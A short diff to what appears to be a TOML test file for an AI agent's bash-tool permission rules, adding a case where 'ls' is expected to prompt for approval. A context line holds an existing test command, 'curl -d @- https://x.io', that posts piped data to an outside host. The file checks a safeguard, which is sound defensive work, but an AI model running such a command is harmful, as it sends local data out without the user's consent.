@@ -250,6 +250,11 @@ tool = "bash"
 args = { command = "curl -d @- https://x.io", description = "d" }
 expect = "ask"
 
+[[test.call]]
+tool = "bash"
+args = { command = "ls", description = "d" }
+expect = "ask"
+
 [[test]]
 name = "a fresh session"
 [[test.call]]
